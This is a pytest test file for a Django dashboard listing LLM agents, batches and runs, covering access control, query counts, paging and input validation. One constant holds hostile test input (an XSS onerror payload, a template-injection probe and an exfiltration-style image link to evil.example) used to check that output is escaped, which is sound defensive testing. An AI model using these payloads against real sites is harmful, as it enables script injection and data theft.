"""Overview, agents and runs: what they show, to whom, and for how many queries."""

from collections.abc import Callable
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from agents.model_names import resolve_model
from agents.models import PoolMember
from batches.models import Attempt, RunEvent
from batches.states import BatchState
from credentials.models import User
from tests.support.factories import (
    make_agent,
    make_batch,
    make_credential,
    make_single_run,
    make_user,
    make_version,
)
from workers.presence import announce

ClientOf = Callable[[User], Client]
HOSTILE = "<img src=x onerror=alert(1)> {{ 7|add:7 }} ![](https://evil.example/?d=1)"
HARMLESS = "&lt;img src=x onerror=alert(1)&gt;"


def page(client: Client, address: str, status: int = 200) -> str:
    response = client.get(address)
    assert response.status_code == status
    return response.content.decode()


def test_overview_of_a_new_installation_teaches_the_next_step(client_of: ClientOf, owner: User):
    text = page(client_of(owner), "/")

    assert "No batch is in progress." in text
    assert "manage.py batches run" in text


def test_overview_shows_batches_in_progress_and_the_latest(client_of: ClientOf, owner: User):
    make_batch(owner, rows=4, name="alpha", state=BatchState.RUNNING, succeeded=1)
    make_batch(owner, rows=2, name="omega", state=BatchState.COMPLETED, succeeded=2)

    in_progress, latest = page(client_of(owner), "/").split("<h2>Latest</h2>")

    assert "alpha" in in_progress
    assert "omega" not in in_progress
    assert "omega" in latest
    assert "<dt>Rows to go</dt><dd>3</dd>" in in_progress


def test_overview_shows_live_workers(client_of: ClientOf, owner: User):
    announce("w1", {"host": "h", "pid": 1, "slots": 500, "busy": 12})

    text = page(client_of(owner), "/")

    assert "12 of 500 slots busy" in text


def test_overview_without_redis_says_so(client_of: ClientOf, owner: User, settings):
    settings.REDIS_URL = "unix:///nowhere/valkey.sock"

    assert "Redis does not answer" in page(client_of(owner), "/")


def test_overview_keeps_itself_up_to_date(client_of: ClientOf, owner: User):
    batch = make_batch(owner, rows=4, name="alpha", state=BatchState.RUNNING)
    client = client_of(owner)
    assert 'data-live="2"' in page(client, reverse("overview-live"))

    batch.state = BatchState.COMPLETED
    batch.save()
    assert 'data-live="10"' in page(client, reverse("overview-live"))


@pytest.mark.security
def test_strangers_see_nothing(client_of: ClientOf, owner: User):
    agent = make_agent(owner, slug="secret-agent")
    batch = make_batch(owner, agent.current_version, rows=1, name="secret batch")
    run = make_single_run(agent.current_version)
    stranger = client_of(make_user())

    for address in ("/", "/agents/", "/batches/", "/runs/"):
        text = page(stranger, address)
        assert "secret" not in text
        assert str(run.pk) not in text
    for address in (
        "/agents/secret-agent/",
        f"/batches/{batch.pk}/",
        f"/batches/{batch.pk}/progress/",
        f"/batches/{batch.pk}/latency/",
        f"/batches/{batch.pk}/results.csv",
        f"/batches/{batch.pk}/results.jsonl",
        f"/runs/{run.pk}/",
        f"/runs/{batch.run_ids[0]}/",
    ):
        page(stranger, address, 404)


def test_superuser_sees_everything(client_of: ClientOf, owner: User, admin: User):
    batch = make_batch(owner, rows=1, name="of olga")

    text = page(client_of(admin), f"/batches/{batch.pk}/")

    assert "by olga" in text


def test_pages_only_read(client_of: ClientOf, owner: User):
    batch = make_batch(owner, rows=1)
    client = client_of(owner)

    for address in ("/", "/agents/", "/batches/", f"/batches/{batch.pk}/", "/runs/", f"/runs/{batch.run_ids[0]}/"):
        assert client.post(address).status_code == 405


def test_number_of_queries_does_not_grow_with_rows(client_of: ClientOf, owner: User, django_assert_max_num_queries):
    agent = make_agent(owner, slug="one")
    for _ in range(5):
        version = make_version(agent)
        make_batch(owner, version, rows=20, state=BatchState.RUNNING)
        make_batch(owner, version, rows=20, state=BatchState.COMPLETED)
        make_single_run(version)
        make_agent(owner)
    batch = make_batch(owner, agent.current_version, rows=60)
    client = client_of(owner)

    # Session and user are two of them.
    for address, most in {
        "/": 6,
        "/agents/": 3,
        "/agents/one/": 5,
        "/batches/": 3,
        f"/batches/{batch.pk}/": 4,
        f"/batches/{batch.pk}/progress/": 3,
        "/runs/": 3,
        f"/runs/{batch.run_ids[0]}/": 5,
    }.items():
        with django_assert_max_num_queries(most):
            page(client, address)


def test_agent_shows_its_pool_and_how_it_answers(client_of: ClientOf, owner: User):
    agent = make_agent(
        owner, slug="pooled", attachments=["photo"], cache_seconds=43_200, output_schema={}, max_repairs=3
    )
    version = agent.current_version
    for place, name in enumerate(("eu", "us")):
        credential = make_credential(owner, name=name)
        PoolMember.objects.create(version=version, place=place, credential=credential, model="small", weight=3 - place)

    text = " ".join(page(client_of(owner), "/agents/pooled/").split())

    assert 'eu/small <span class="soft">× 3</span>' in text
    assert 'us/small <span class="soft">× 2</span>' in text
    assert "and 1 more" in text
    for name, value in (("Images and files", "photo"), ("Stored answers", "serve for 12 h 0 m"), ("Asked again", "3")):
        assert f"{value}</dd>" in text.partition(name)[2][:80], name


def test_run_shows_who_answered_and_what_was_cached_and_thought(client_of: ClientOf, owner: User):
    version = make_agent(owner, slug="pooled").current_version
    tokens = {"input_tokens": 900, "cached_tokens": 800, "output_tokens": 70, "reasoning_tokens": 60}
    run = make_single_run(version, {"a": 1}, state="succeeded", output="x", model="us/small", is_cached=True, **tokens)

    text = page(client_of(owner), f"/runs/{run.pk}/")

    for expected in ("us/small", "a stored answer", "900 tokens in (800 cached), 70 out (60 thought)"):
        assert expected in text


def test_run_of_a_plain_model_shows_its_name_once_and_how_its_answer_ended(client_of: ClientOf, owner: User):
    make_credential(owner, name="main")
    call = {"id": "c1", "name": "look_up", "arguments": "{}"}
    ended = {"finish_reason": "tool_calls", "tool_calls": [call]}
    run = make_single_run(resolve_model(owner, "main/m-1"), state="succeeded", output="", completion=ended)

    text = page(client_of(owner), f"/runs/{run.pk}/")

    assert text.count("main/m-1") == 1
    assert "look_up" in text


def test_run_shows_input_output_attempts_and_events(client_of: ClientOf, owner: User):
    version = make_agent(owner, slug="helper").current_version
    run = make_single_run(
        version,
        {"text": "Where is my parcel?", "count": 12345678901234567890, "tags": ["a", "b"], "empty": None},
        state="succeeded",
        output="At the depot.",
        parsed={"place": "depot"},
        attempt=2,
        cost=Decimal("0.001234"),
    )
    now = timezone.now()
    Attempt.objects.create(
        run=run, number=1, outcome="retried", finished_at=now, error_code="timeout", error_message="30 s passed"
    )
    Attempt.objects.create(run=run, number=2, outcome="succeeded", finished_at=now, worker="host-a:1")
    RunEvent.objects.create(run=run, attempt=1, kind="retry", data={"delay": 1.5}, created_at=now)

    text = page(client_of(owner), f"/runs/{run.pk}/")

    for expected in (
        "Where is my parcel?",
        "12345678901234567890",
        "At the depot.",
        "&quot;place&quot;: &quot;depot&quot;",
        "timeout",
        "30 s passed",
        "host-a:1",
        "&quot;delay&quot;: 1.5",
        "helper@1",
        "$0.001234",
    ):
        assert expected in text


def test_run_of_a_batch_leads_to_its_neighbours(client_of: ClientOf, owner: User):
    batch = make_batch(owner, rows=3)
    first = batch.run_ids[0]
    client = client_of(owner)

    def has(run_id: int, relation: str, target: int) -> bool:
        return f'href="/runs/{target}/" rel="{relation}"' in page(client, f"/runs/{run_id}/")

    assert has(first, "next", first + 1)
    assert not has(first, "prev", first - 1)
    assert has(first + 1, "prev", first)
    assert not has(first + 2, "next", first + 3)


def test_what_a_model_or_an_upload_says_is_inert(client_of: ClientOf, owner: User):
    agent = make_agent(owner, slug="h", instructions=HOSTILE, prompt=HOSTILE, note=HOSTILE, model=HOSTILE[:190])
    agent.description = HOSTILE
    agent.save()
    run = make_single_run(
        agent.current_version,
        {HOSTILE: HOSTILE},
        state="failed",
        output=HOSTILE,
        parsed={HOSTILE: [HOSTILE]},
        error_code="bad_response",
        error_message=HOSTILE,
        custom_id=HOSTILE,
    )
    Attempt.objects.create(
        run=run, number=1, outcome="failed", finished_at=timezone.now(), worker=HOSTILE[:90], error_message=HOSTILE
    )
    RunEvent.objects.create(run=run, attempt=1, kind="error", data={"text": HOSTILE}, created_at=timezone.now())
    client = client_of(owner)

    for address in ("/runs/", f"/runs/{run.pk}/", "/agents/", "/agents/h/"):
        text = page(client, address)
        assert HARMLESS in text
        assert "<img" not in text
        assert "14" not in text.split("{{ 7|add:7 }}")[0][-10:]


def test_very_long_output_is_cut(client_of: ClientOf, owner: User):
    run = make_single_run(make_agent(owner).current_version, state="succeeded", output="x" * 3_000_000)

    text = page(client_of(owner), f"/runs/{run.pk}/")

    assert len(text) < 150_000
    assert "The first 100,000 of 3,000,000 characters." in text


def test_deeply_nested_input_is_shown_or_refused_but_breaks_nothing(client_of: ClientOf, owner: User):
    depth = 900
    run = make_single_run(make_agent(owner).current_version)
    run.input_json = '{"a": ' + "[" * depth + "]" * depth + "}"
    run.save()

    page(client_of(owner), f"/runs/{run.pk}/")


def test_single_runs_are_paged_by_key(client_of: ClientOf, owner: User):
    version = make_agent(owner).current_version
    ids = sorted(make_single_run(version).pk for _ in range(51))
    client = client_of(owner)

    first = page(client, "/runs/")
    second = page(client, f"/runs/?before={ids[1]}")

    assert f"before={ids[1]}" in first
    assert f"/runs/{ids[0]}/" not in first
    assert f"/runs/{ids[0]}/" in second
    assert "Older" not in second


def test_rows_of_batches_are_not_among_the_single_runs(client_of: ClientOf, owner: User):
    batch = make_batch(owner, rows=1)

    assert f"/runs/{batch.run_ids[0]}/" not in page(client_of(owner), "/runs/")


def test_runs_are_filtered_by_state(client_of: ClientOf, owner: User):
    version = make_agent(owner).current_version
    failed = make_single_run(version, state="failed")
    queued = make_single_run(version)

    text = page(client_of(owner), "/runs/?state=failed")

    assert f"/runs/{failed.pk}/" in text
    assert f"/runs/{queued.pk}/" not in text


def test_agents_are_paged_by_slug(client_of: ClientOf, owner: User):
    for number in range(51):
        make_agent(owner, slug=f"agent-{number:03}")
    client = client_of(owner)

    assert "after=agent-049" in page(client, "/agents/")
    second = page(client, "/agents/?after=agent-049")
    assert "agent-050" in second
    assert "agent-048" not in second


def test_agent_shows_the_version_that_is_asked_for(client_of: ClientOf, owner: User):
    agent = make_agent(owner, slug="two", prompt="first {{ a }}")
    make_version(agent, prompt="second {{ b }}", output_schema={"type": "object"})
    client = client_of(owner)

    assert "second {{ b }}" in page(client, "/agents/two/")
    assert "first {{ a }}" in page(client, "/agents/two/?version=1")
    page(client, "/agents/two/?version=3", 404)


@pytest.mark.parametrize(
    "address",
    [
        "/runs/?before=abc",
        "/runs/?before=-1",
        "/runs/?before=99999999999999999999",
        "/runs/?state=nonsense",
        "/runs/?before=%00",
        "/batches/?state=%00",
        "/batches/?before=1e3",
        "/agents/?after=%00",
        "/agents/?after=UPPER",
        "/runs/?before=%D9%A3",
    ],
)
def test_bad_parameters_are_refused(client_of: ClientOf, owner: User, address: str):
    text = page(client_of(owner), address, 400)

    assert "not understood" in text


@pytest.mark.parametrize("number", ["0", "9223372036854775807", "9223372036854775808", "1" + "0" * 60])
def test_numbers_beyond_every_row_are_not_found(client_of: ClientOf, owner: User, number: str):
    client = client_of(owner)

    page(client, f"/runs/{number}/", 404)
    page(client, f"/batches/{number}/", 404)
